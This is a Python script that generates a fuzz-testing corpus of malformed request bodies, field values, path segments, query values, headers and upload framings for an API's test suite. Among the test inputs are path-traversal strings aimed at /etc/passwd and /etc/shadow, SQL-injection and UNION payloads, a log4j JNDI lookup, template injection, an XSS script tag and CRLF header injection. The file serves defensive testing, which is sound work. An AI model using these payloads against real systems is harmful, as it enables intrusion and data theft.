"""Generate ``tests/fuzz/corpus/*.json``: the committed corpus of bad input.

Run from the repository root::

    python -m tests.fuzz.gen_corpus          # rewrite the files
    python -m tests.fuzz.gen_corpus --check  # exit 1 if a file is stale

Every case has a ``name`` (what is wrong with it) and the exact bytes to send, so the
corpus is reviewable data and the same on every run.  ``tests/fuzz/test_corpus.py`` sends
every case to every route it fits (tests/fuzz/routes.py), authenticated where needed:

``bodies.json``   whole request bodies for the JSON routes: malformed and non-canonical
                  JSON, duplicate keys, bad UTF-8, nesting, wrong top-level types;
``values.json``   JSON values spliced into every field of a well-formed body (raw JSON
                  text, so non-canonical forms survive): wrong types, non-canonical
                  numbers and escapes, unicode tricks, path traversal and SQL
                  metacharacters, bad and mis-sized base64, small-order and
                  non-canonical curve points; ``hostile`` ones are invalid for every
                  identifier, key and number field, so a body re-signed around them
                  must still be refused;
``segments.json`` path segments for ``{id}`` and ``{index}`` (already percent-encoded);
``queries.json``  values for integer query parameters (already percent-encoded);
``headers.json``  ``Authorization`` and ``X-Request-Id`` values;
``uploads.json``  framings of ``POST /v1/drafts`` (length prefix, meta, ciphertext).
"""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

from protocol.encoding import b64e
from tests.helpers import ED25519_SMALL_ORDER, P25519, X25519_SMALL_ORDER_U, u_bytes

CORPUS = Path(__file__).resolve().parent / "corpus"
MAX_SAFE = 2**53 - 1

Case = dict[str, Any]


def _text(name: str, text: str, *, hostile: bool = True) -> Case:
    return {"hostile": hostile, "json": text, "name": name}


def _value(name: str, value: Any, *, hostile: bool = True) -> Case:
    return _text(
        name, json.dumps(value, ensure_ascii=False, separators=(",", ":")), hostile=hostile
    )


def _raw(name: str, data: bytes) -> Case:
    return {"bytes": b64e(data), "hostile": True, "name": name}


TRAVERSAL_AND_SQL = [
    ("dotdot", "../../../../etc/passwd"),
    ("dotdot-backslash", "..\\..\\windows\\win.ini"),
    ("dotdot-encoded", "%2e%2e%2f%2e%2e%2f"),
    ("dot", "."),
    ("dotdot-alone", ".."),
    ("slash", "/"),
    ("absolute", "/etc/shadow"),
    ("sql-drop", "'; DROP TABLE entries;--"),
    ("sql-or", '" OR 1=1 --'),
    ("sql-semicolon", "1;DROP TABLE entries"),
    ("sql-comment", "north'--"),
    ("sql-like", "%"),
    ("sql-underscore-like", "_"),
    ("sql-union", "x' UNION SELECT hash FROM tokens --"),
    ("template", "{{7*7}}${7*7}"),
    ("log4j", "${jndi:ldap://x/a}"),
    ("html", "<script>alert(1)</script>"),
    ("crlf", "a\r\nX-Injected: 1"),
    ("star", "*"),
]

UNICODE = [
    ("nul", "\u0000"),
    ("nul-inside", "nor\u0000th"),
    ("bidi-override", "north\u202egnp.exe"),
    ("bidi-isolate", "\u2066north\u2069"),
    ("zero-width", "nor\u200bth"),
    ("homoglyph-cyrillic", "n\u043erth"),
    ("homoglyph-greek", "\u03bfbs"),
    ("fullwidth", "\uff4e\uff4f\uff52\uff54\uff48"),
    ("combining", "north\u0301"),
    ("upper", "NORTH"),
    ("trailing-space", "north "),
    ("bom", "\ufeffnorth"),
    ("emoji", "\U0001f600"),
    ("c1-control", "north\u009b31m"),
    ("escape", "north\u001b[31m"),
    ("long", "a" * 10_000),
    ("empty", ""),
]


def values() -> list[Case]:
    out: list[Case] = [
        _text("null", "null"),
        _text("true", "true"),
        _text("false", "false"),
        _text("zero", "0"),
        _text("minus-one", "-1"),
        _text("max-safe-plus-one", str(MAX_SAFE + 1)),
        _text("min-safe-minus-one", str(-MAX_SAFE - 1)),
        _text("huge-int", "9" * 40),
        _text("float", "1.5"),
        _text("float-integral", "1.0"),
        _text("exponent", "1e2"),
        _text("exponent-upper", "1E2"),
        _text("negative-zero", "-0"),
        _text("leading-zero", "01"),
        _text("plus", "+1"),
        _text("hex", "0x10"),
        _text("nan", "NaN"),
        _text("infinity", "Infinity"),
        _text("empty-list", "[]"),
        _text("empty-object", "{}"),
        _text("list-of-null", "[null]"),
        _text("deep", "[" * 64 + "]" * 64),
        _text("object-with-dupes", '{"a":1,"a":2}'),
        _text("string-number", '"1"'),
        _text("escaped-ascii", '"\\u006eorth"'),
        _text("escaped-slash", '"a\\/b"'),
        _text("escaped-nonascii", '"\\u00e9"'),
        _text("lone-high-surrogate", '"\\ud800"'),
        _text("lone-low-surrogate", '"\\udfff"'),
        _text("reversed-surrogates", '"\\udc00\\ud800"'),
        _raw("overlong-slash", b'"\xc0\xaf"'),
        _raw("overlong-nul", b'"\xc0\x80"'),
        _raw("cesu-surrogate", b'"\xed\xa0\x80"'),
        _raw("invalid-utf8", b'"\xff\xfe"'),
        _raw("truncated-utf8", b'"\xe2\x82"'),
    ]
    out += [_value(f"string-{name}", text) for name, text in TRAVERSAL_AND_SQL]
    out += [_value(f"unicode-{name}", text) for name, text in UNICODE]
    # Base64: wrong alphabet, padding, trailing bits, sizes.
    out += [
        _value("b64-empty", ""),
        _value("b64-padding-only", "="),
        _value("b64-padded", "AAAAAAAAAAAAAAAAAAAAAA=="),
        _value("b64-standard-alphabet", "+/+/+/+/+/+/+/+/+/+/+w"),
        _value("b64-whitespace", "AAAA AAAA AAAA AAAA AAAA AA"),
        _value("b64-newline", "AAAAAAAAAAA\nAAAAAAAAAAA"),
        _value("b64-trailing-bits", "AB"),
        _value("b64-bang", "!!!!"),
        _value("b64-one-char", "A"),
        _value("b64-long", "A" * 20_000),
    ]
    for size in (1, 15, 17, 31, 33, 63, 65):
        out.append(_value(f"b64-{size}-bytes", b64e(bytes(range(size)))))
    # Curve points that are not keys anyone should accept.
    for i, point in enumerate(ED25519_SMALL_ORDER):
        out.append(_value(f"ed25519-small-order-{i}", b64e(point)))
    out.append(_value("ed25519-noncanonical-y", b64e(P25519.to_bytes(32, "little"))))
    out.append(_value("ed25519-noncanonical-y-plus-one", b64e((P25519 + 1).to_bytes(32, "little"))))
    for u in X25519_SMALL_ORDER_U:
        out.append(_value(f"x25519-small-order-{u % 1000}", b64e(u_bytes(u))))
    out.append(_value("all-zero-32", b64e(bytes(32))))
    out.append(_value("all-ff-32", b64e(b"\xff" * 32)))
    out.append(_value("all-zero-64", b64e(bytes(64))))
    return out


def bodies() -> list[Case]:
    return [
        _raw("empty", b""),
        _raw("whitespace", b" "),
        _raw("not-json", b"hello"),
        _raw("truncated-object", b'{"a":'),
        _raw("truncated-string", b'{"a":"b'),
        _raw("trailing-comma", b'{"a":1,}'),
        _raw("single-quotes", b"{'a':1}"),
        _raw("comment", b'{"a":1/*x*/}'),
        _raw("two-documents", b'{"a":1}{"a":1}'),
        _raw("trailing-garbage", b'{"a":1}x'),
        _raw("leading-space", b' {"a":1}'),
        _raw("trailing-newline", b'{"a":1}\n'),
        _raw("spaces-inside", b'{"a": 1}'),
        _raw("unsorted-keys", b'{"b":1,"a":1}'),
        _raw("duplicate-keys", b'{"a":1,"a":1}'),
        _raw("duplicate-keys-nested", b'{"a":{"b":1,"b":2}}'),
        _raw("non-ascii-key", '{"é":1}'.encode()),
        _raw("escaped-key", b'{"\\u0061":1}'),
        _raw("bom", b'\xef\xbb\xbf{"a":1}'),
        _raw("utf16", '{"a":1}'.encode("utf-16")),
        _raw("latin1", b'{"a":"\xe9"}'),
        _raw("overlong-utf8", b'{"a":"\xc0\xaf"}'),
        _raw("lone-surrogate", b'{"a":"\\ud800"}'),
        _raw("nul-byte", b'{"a":1}\x00'),
        _raw("float", b'{"a":1.5}'),
        _raw("big-int", b'{"a":9007199254740992}'),
        _raw("huge-int", b'{"a":' + b"9" * 5000 + b"}"),
        _raw("nan", b'{"a":NaN}'),
        _raw("deep-list", b"[" * 2000 + b"]" * 2000),
        _raw("deep-object", b'{"a":' * 100 + b"1" + b"}" * 100),
        _raw("top-null", b"null"),
        _raw("top-list", b"[]"),
        _raw("top-string", b'"x"'),
        _raw("top-number", b"1"),
        _raw("top-true", b"true"),
        _raw("empty-object", b"{}"),
        _raw("unknown-field", b'{"zzz":1}'),
        _raw("many-keys", b"{" + b",".join(b'"k%05d":1' % i for i in range(1000)) + b"}"),
        _raw("binary", bytes(range(256))),
    ]


def segments() -> list[Case]:
    """Path segments (percent-encoded as a client would send them)."""
    return [
        {"name": name, "segment": seg}
        for name, seg in [
            ("dotdot", "%2E%2E"),
            ("dotdot-slash", "..%2F..%2Fetc%2Fpasswd"),
            ("encoded-slash", "a%2Fb"),
            ("nul", "%00"),
            ("nul-suffix", "1%00"),
            ("space", "%20"),
            ("sql", "1%3BDROP%20TABLE%20entries"),
            ("quote", "%27%20OR%201%3D1"),
            ("negative", "-1"),
            ("plus", "%2B1"),
            ("huge", "9" * 40),
            ("sixteen-nines", "9" * 16),
            ("seventeen-digits", "1" * 17),
            ("leading-zeros", "0001"),
            ("hex", "0x10"),
            ("float", "1.5"),
            ("fullwidth-digit", "%EF%BC%91"),
            ("arabic-digit", "%D9%A1"),
            ("homoglyph", "n%D0%BErth"),
            ("bidi", "%E2%80%AE1"),
            ("overlong-utf8", "%C0%AF"),
            ("invalid-utf8", "%FF%FE"),
            ("long-id", "A" * 65),
            ("exact-64", "A" * 64),
            ("base64-padded", "AAAAAAAAAAAAAAAAAAAAAA%3D%3D"),
            ("unicode-id", "%C3%A9t%C3%A9"),
            ("empty-percent", "%"),
            ("bad-percent", "%zz"),
        ]
    ]


def queries() -> list[Case]:
    """Values for integer query parameters (percent-encoded)."""
    return [
        {"name": name, "value": value}
        for name, value in [
            ("sql", "1;DROP%20TABLE%20entries"),
            ("sql-quote", "1%27%20OR%20%271%27=%271"),
            ("empty", ""),
            ("space", "%201"),
            ("plus", "%2B1"),
            ("minus-two", "-2"),
            ("huge", "9" * 40),
            ("max-safe-plus-one", str(MAX_SAFE + 1)),
            ("seventeen-digits", "1" * 17),
            ("leading-zero", "01"),
            ("float", "1.5"),
            ("exponent", "1e3"),
            ("hex", "0x10"),
            ("fullwidth-digit", "%EF%BC%91"),
            ("arabic-digit", "%D9%A1"),
            ("nul", "1%00"),
            ("bidi", "%E2%80%AE1"),
            ("overlong", "%C0%B1"),
            ("invalid-utf8", "%FF"),
            ("word", "abc"),
            ("true", "true"),
            ("negative-zero", "-0"),
            ("dotdot", "..%2F.."),
        ]
    ]


def headers() -> list[Case]:
    return [
        {"name": name, "authorization": value}
        for name, value in [
            ("empty", ""),
            ("scheme-only", "Bearer"),
            ("scheme-space", "Bearer "),
            ("basic", "Basic YWxhZGRpbjpvcGVuc2VzYW1l"),
            ("garbage", "Bearer !!!!"),
            ("short-token", "Bearer AAAA"),
            ("long-token", "Bearer " + "A" * 8000),
            ("padded-unknown", "Bearer " + "A" * 43 + "="),
            ("unknown-token", "Bearer " + "B" * 43),
            ("standard-alphabet", "Bearer " + "+/" * 21 + "A"),
            ("sql", "Bearer ' OR 1=1 --"),
            ("two-schemes", "Bearer x, Bearer y"),
            ("tab", "Bearer\tAAAA"),
            ("nul-escaped", "Bearer \\x00"),
        ]
    ]


def uploads() -> list[Case]:
    """Framings of the draft upload body; ``{meta}`` parts are filled in by the test."""
    return [
        _raw("empty", b""),
        _raw("one-byte", b"\x00"),
        _raw("three-bytes", b"\x00\x00\x00"),
        _raw("zero-meta", b"\x00\x00\x00\x00"),
        _raw("zero-meta-with-data", b"\x00\x00\x00\x00ciphertext"),
        _raw("meta-longer-than-body", b"\x00\x00\x01\x00{}"),
        _raw("meta-max-u32", b"\xff\xff\xff\xff"),
        _raw("meta-not-json", b"\x00\x00\x00\x05hello"),
        _raw("meta-empty-object", b"\x00\x00\x00\x02{}"),
        _raw("meta-list", b"\x00\x00\x00\x02[]"),
        _raw("meta-bad-utf8", b'\x00\x00\x00\x04"\xc0\xaf"'),
        _raw("meta-dupe-keys", b'\x00\x00\x00\x0f{"a":1,"a":1}xx'),
        _raw("json-instead", b'{"header":{},"keys":{}}'),
    ]


FILES = {
    "values.json": values,
    "bodies.json": bodies,
    "segments.json": segments,
    "queries.json": queries,
    "headers.json": headers,
    "uploads.json": uploads,
}


def render(name: str) -> str:
    return json.dumps(FILES[name](), indent=1, ensure_ascii=True, sort_keys=True) + "\n"


def main(argv: list[str]) -> int:
    stale = []
    for name in FILES:
        path = CORPUS / name
        text = render(name)
        if "--check" in argv:
            if not path.exists() or path.read_text() != text:
                stale.append(name)
        else:
            CORPUS.mkdir(exist_ok=True)
            path.write_text(text)
    if stale:
        print(f"stale corpus files: {', '.join(stale)}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
